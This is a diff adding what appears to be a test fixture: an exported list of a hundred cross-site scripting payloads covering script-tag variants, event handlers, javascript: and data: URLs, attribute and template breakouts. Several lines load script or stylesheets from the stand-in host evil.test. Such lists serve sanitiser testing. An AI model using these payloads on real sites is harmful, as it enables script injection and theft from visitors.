@@ -1,0 +1,92 @@
+/** What a payload calls when it runs. */
+const MARK = 'window.stolen()';
+
+const scripts = [
+  `<script>${MARK}</script>`,
+  `<ScRiPt>${MARK}</sCrIpT>`,
+  `</script><script>${MARK}</script>`,
+  `"><script>${MARK}</script>`,
+  `'><script>${MARK}</script>`,
+  `--><script>${MARK}</script>`,
+  `]]><script>${MARK}</script>`,
+  `</title><script>${MARK}</script>`,
+  `</textarea><script>${MARK}</script>`,
+  `</style><script>${MARK}</script>`,
+  `</noscript><script>${MARK}</script>`,
+  `<!--<script>${MARK}</script>-->`,
+  `<script/x>${MARK}</script>`,
+  `<script\n>${MARK}</script\n>`,
+  `<script src="data:text/javascript,${MARK}"></script>`,
+  `<script src=//evil.test/x.js></script>`,
+  `<script type=module>${MARK}</script>`,
+  `<<script>${MARK}//<</script>`,
+  `\u003cscript\u003e${MARK}\u003c/script\u003e`,
+  `&lt;script&gt;${MARK}&lt;/script&gt;`,
+];
+
+const tags = [
+  'img src=x',
+  'svg',
+  'body',
+  'video src=x',
+  'audio src=x',
+  'iframe',
+  'object data=x',
+  'input autofocus',
+];
+const events = ['onerror', 'onload', 'onfocus', 'onpointerenter', 'onanimationstart', 'ontoggle'];
+const handlers = tags.flatMap((tag, n) =>
+  events.slice(0, 5).map((event, m) => {
+    const quote = ['', '"', "'", '`'][(n + m) % 4];
+    return `<${tag} ${event}=${quote}${MARK}${quote}>`;
+  }),
+);
+
+const addresses = [
+  `javascript:${MARK}`,
+  `JaVaScRiPt:${MARK}`,
+  `java\tscript:${MARK}`,
+  ` javascript:${MARK}`,
+  `\u0001javascript:${MARK}`,
+  `javascript&colon;${MARK}`,
+  `data:text/html,<script>${MARK}</script>`,
+  `data:text/html;base64,${Buffer.from(`<script>${MARK}</script>`).toString('base64')}`,
+  `vbscript:${MARK}`,
+  `<a href="javascript:${MARK}" autofocus>x</a>`,
+  `<form action="javascript:${MARK}"><button>x</button></form>`,
+  `<iframe src="javascript:${MARK}"></iframe>`,
+  `<iframe srcdoc="<script>${MARK}</script>"></iframe>`,
+  `<base href="https://evil.test/">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${MARK}">`,
+  `<link rel=stylesheet href=https://evil.test/x.css>`,
+  `<object data="data:text/html,<script>${MARK}</script>"></object>`,
+  `<embed src="javascript:${MARK}">`,
+  `<math><a xlink:href="javascript:${MARK}">x</a></math>`,
+  `<svg><script>${MARK}</script></svg>`,
+];
+
+const breakouts = [
+  `" onmouseover="${MARK}`,
+  `' onfocus='${MARK}' autofocus='`,
+  `\` onload=${MARK} \``,
+  `";${MARK};//`,
+  `';${MARK};//`,
+  `\\";${MARK};//`,
+  `\u2028${MARK}\u2029`,
+  `\${${MARK}}`,
+  `{{constructor.constructor("${MARK}")()}}`,
+  `{"__html":"<img src=x onerror=${MARK}>"}`,
+  `{"type":"script","props":{"children":"${MARK}"}}`,
+  `<%= ${MARK} %>`,
+  `<style>*{background:url(https://evil.test/)}</style>`,
+  `<style onload=${MARK}></style>`,
+  `<details open ontoggle=${MARK}>`,
+  `<marquee onstart=${MARK}>`,
+  `<template><script>${MARK}</script></template>`,
+  `<plaintext><script>${MARK}</script>`,
+  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
+  `\u202e<script>${MARK}</script>`,
+];
+
+/** A hundred texts that would run somewhere if a page took a stored text for its own. */
+export const PAYLOADS: readonly string[] = [...scripts, ...handlers, ...addresses, ...breakouts];
